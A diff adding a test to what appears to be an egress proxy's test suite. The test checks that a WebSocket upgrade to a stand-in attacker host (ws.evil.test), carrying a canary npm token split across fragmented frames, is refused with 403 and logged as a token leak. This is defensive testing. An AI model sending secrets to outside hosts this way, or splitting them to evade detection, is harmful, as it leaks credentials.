@@ -156,3 +156,35 @@ describe('the proxy reads what a WebSocket client sends after an upgrade', () =>
     ]);
   });
 });
+
+describe('a refused WebSocket upgrade', () => {
+  it('reads the frames a client sent without waiting for the answer', async () => {
+    const proxy = new EgressProxy({ allow: [], tcpPort: 0, outbound });
+    const proxyPort = (await proxy.start()).tcpPort ?? 0;
+    const head =
+      'GET http://ws.evil.test/socket HTTP/1.1\r\nHost: ws.evil.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n';
+    const answer = await new Promise<string>((resolve) => {
+      const socket = connect(proxyPort, '127.0.0.1');
+      let got = '';
+      socket.on('data', (d) => {
+        got += d.toString();
+      });
+      socket.on('error', () => resolve(got));
+      socket.on('close', () => resolve(got));
+      socket.on('connect', () => {
+        socket.write(
+          Buffer.concat([
+            Buffer.from(head),
+            frame(1, Buffer.from(`k=${TOKEN.slice(0, 14)}`), { fin: false }),
+          ]),
+        );
+        setTimeout(() => socket.write(frame(0, Buffer.from(TOKEN.slice(14)))), 50);
+      });
+    });
+    expect(answer).toMatch(/^HTTP\/1\.1 403/);
+    const records = await proxy.stop();
+    expect(records.map((r) => [r.decision, (r.leaks ?? []).map((l) => `${l.where} ${l.detector}`)])).toEqual([
+      ['denied', ['websocket canary-npm-token']],
+    ]);
+  });
+});
